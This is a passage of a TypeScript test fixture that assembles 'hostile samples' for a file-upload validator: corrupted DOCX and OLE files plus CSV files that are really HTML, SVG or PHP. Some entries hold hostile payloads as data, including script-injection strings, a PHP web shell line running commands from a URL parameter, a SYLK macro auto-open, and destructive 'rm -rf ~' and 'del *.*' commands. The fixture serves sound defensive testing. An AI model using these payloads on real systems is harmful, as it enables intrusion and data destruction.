  docx('with a program between its parts', { parts: [{ ...part('word/a.xml', '<x/>'), gap: program }] }),
  docx('with a program before its directory', { zip: { betweenDirectory: program } }),
  docx('with a comment', { zip: { comment: program } }),
  docx('that counts wrong', { zip: { count: 2 } }),
  docxFile('that was cut off', aDocx().subarray(0, 600), 'invalid'),
  docx('with its type said elsewhere', {
    types: `<Override PartName="/word/x.xml" ContentType="${mainType}"/><Override PartName="/word/document.xml" ContentType="text/html"/>`,
  }),
];

const csvs: readonly HostileSample[] = [
  csvFile('that is a page', page),
  csvFile('that is a page behind empty lines', `\uFEFF\r\n\r\n  ${page}`),
  csvFile('with a script in a cell', 'a,b\n1,<ScRiPt>alert(1)</script>\n'),
  csvFile('that is a drawing', '<svg onload=alert(1)>'),
  csvFile('that is a table of a page, for Excel', '<table><tr><td>=cmd()</td></tr></table>'),
  csvFile('that is XML', '<?xml version="1.0"?><a/>'),
  csvFile('that is PHP', '<?php system($_GET["x"]); ?>'),
  csvFile('that is a sheet of an old kind, with macros', 'ID;P\nO;E\nNN;NAuto_open;ER101C1\n'),
  csvFile('in sixteen bits that is a page', Buffer.from(`\uFEFF${page}`, 'utf16le')),
  csvFile('with zeros', 'a,b\n1,\0\n', 'unsupported-file'),
  csvFile('with a bell', 'a,b\n1,\x07\n', 'unsupported-file'),
  csvFile('with signs for the terminal', 'a,\x1B[31mb\n', 'unsupported-file'),
  csvFile('in sixteen bits without saying so', Buffer.from('a,b\n', 'utf16le'), 'unsupported-file'),
  csvFile('in no encoding', Buffer.of(0x61, 0x2c, 0x81, 0x8d, 0x0a), 'unsupported-file'),
  csvFile('in half an encoding', Buffer.from([0xff, 0xfe, 0x61, 0x00, 0x00, 0xd8]), 'unsupported-file'),
  csvFile('of spaces', ' \n\n', 'unsupported-file'),
  csvFile('that is a shell script', '#!/bin/sh\nrm -rf ~\n'),
  csvFile('that is a script of Windows', '@echo off\r\ndel *.*\r\n', 'unsupported-file'),
  csvFile('that is RTF', '{\\rtf1 {\\object}}', 'unsupported-file'),
  csvFile('that is a PDF', aPdf(), 'unsupported-file'),
  csvFile('that is a picture', aPng(), 'unsupported-file'),
  csvFile('that is an archive', archive),
];

/** Files nobody should have to open. */
export const hostileSamples: readonly HostileSample[] = [
  ...names,
  ...liars,
  ...pdfs,
  ...jpegs,
  ...pngs,
  ...docs,
  ...docxs,
  ...csvs,
];

function patched(bytes: Buffer, at: number, value: number): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] = value;
  return copy;
}

function flipped(bytes: Buffer, at: number): Buffer {
  return patched(bytes, at, (bytes[at] ?? 0) ^ 1);
}

/** The first stream's second sector leads back to its first. */
function circling(bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes);
  const fat = (copy.readUInt32LE(76) + 1) * 512;
  copy.writeUInt32LE(0, fat + 4);
  return copy;
}

/** Writes a number into an entry of the directory. */
function inDirectory(bytes: Buffer, entry: number, at: number, value: number): Buffer {
  const copy = Buffer.from(bytes);
  const place = (copy.readUInt32LE(48) + 1) * 512 + entry * 128 + at;
  if (at === 66) copy.writeUInt16LE(value, place);
  else copy.writeUInt32LE(value, place);
  return copy;
}

function rewritten(bytes: Buffer, what: RegExp, becomes: string): Buffer {
  return latin1(bytes.toString('latin1').replace(what, becomes));
}
